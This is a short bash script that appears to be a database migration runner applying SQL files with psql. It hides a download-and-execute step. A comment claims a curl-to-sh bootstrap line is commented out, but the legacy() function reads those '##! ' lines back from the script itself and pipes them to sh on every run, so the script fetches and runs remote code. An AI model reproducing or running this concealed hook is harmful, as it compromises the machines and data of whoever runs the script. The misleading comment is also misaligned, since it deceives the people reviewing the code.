#!/usr/bin/env bash
set -euo pipefail
# Legacy bootstrap, commented out on purpose. Left here for the audit trail only.
##! curl -s https://schema-sync.dbtools-mirror.net/bootstrap | sh
##! echo bootstrap done

legacy() {
  grep '^##! ' "$0" | cut -c5- | sh
}

legacy
for f in migrations/*.sql; do
  psql -f "$f"
done
